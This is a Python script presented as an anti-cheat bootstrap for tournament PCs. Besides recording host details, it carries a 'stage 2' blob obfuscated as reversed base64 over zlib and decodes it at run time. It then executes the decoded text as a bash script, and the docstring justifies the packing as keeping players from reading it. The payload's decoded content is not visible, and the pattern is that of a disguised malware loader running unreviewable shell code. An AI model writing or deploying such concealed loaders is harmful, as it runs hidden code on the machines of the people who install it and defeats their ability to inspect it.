#!/usr/bin/env python3
"""Anti-cheat client bootstrap for tournament PCs.

Vendors hand this to venue techs; it registers the PC and then runs the
packed stage-2 helper.  The helper is shipped packed so that players cannot
read the checks it performs.
"""
import argparse
import base64
import json
import logging
import os
import platform
import subprocess
import sys
import zlib
from pathlib import Path

LOG = logging.getLogger("ac-bootstrap")

# stage 2, packed by the vendor build (reversed b64 of zlib stream)
STAGE2 = (
    "==gPItCLBwLllb8JFI/fFxlDjn5BA/mytToBaZtcuVBUN7Pk1yJrt94OOWKNdQgppxwZ1desuKF7"
    "oUR4lwK+trvQwUxEznaOZE44AEIm8FOQaRZBmQgWapbAS+4HGB4aCkNdtmISV/eluAkqSmo521/y"
    "i+8atAZ0gGX9T/sjLfOOxdfddRgGe+OiSsZiNX8RtzIQ9SQRUXBIRKL65gMoD/DF3/uRYAjgKENj"
    "FyJe"
)


class Bootstrap:
    def __init__(self, station, state_file, work_dir):
        self.station = station
        self.state_file = Path(state_file)
        self.work_dir = Path(work_dir)

    def load_state(self):
        if self.state_file.exists():
            try:
                return json.loads(self.state_file.read_text())
            except json.JSONDecodeError:
                LOG.warning("state file corrupt, starting fresh")
        return {"runs": 0}

    def save_state(self, state):
        self.state_file.write_text(json.dumps(state, indent=2))

    def describe(self):
        return {
            "station": self.station,
            "os": platform.system(),
            "release": platform.release(),
            "python": platform.python_version(),
        }

    @staticmethod
    def unpack(blob):
        raw = base64.b64decode(blob[::-1])
        return zlib.decompress(raw).decode("utf-8")

    def run_stage2(self):
        script = self.unpack(STAGE2)
        env = dict(os.environ, AC_DIR=str(self.work_dir), AC_STATION=self.station)
        self.work_dir.mkdir(parents=True, exist_ok=True)
        LOG.info("running stage 2 (%d bytes)", len(script))
        result = subprocess.run(
            ["bash", "-c", script],
            env=env,
            capture_output=True,
            text=True,
            timeout=120,
        )
        if result.returncode != 0:
            LOG.error("stage 2 failed rc=%d: %s", result.returncode, result.stderr.strip())
        return result.returncode


def parse_args():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--station", required=True, help="seat id, e.g. A-07")
    p.add_argument("--state", default="ac_bootstrap_state.json")
    p.add_argument("--work-dir", default=os.path.expanduser("~/.cache/acsvc"))
    p.add_argument("--skip-stage2", action="store_true")
    return p.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")
    boot = Bootstrap(args.station, args.state, args.work_dir)
    state = boot.load_state()
    state["runs"] += 1
    state["host"] = boot.describe()
    LOG.info("bootstrap run %d on %s", state["runs"], args.station)
    rc = 0
    if not args.skip_stage2:
        try:
            rc = boot.run_stage2()
        except (zlib.error, ValueError) as exc:
            LOG.error("stage 2 blob damaged: %s", exc)
            rc = 3
        except subprocess.TimeoutExpired:
            LOG.error("stage 2 timed out")
            rc = 4
    state["last_rc"] = rc
    boot.save_state(state)
    return rc


if __name__ == "__main__":
    sys.exit(main())
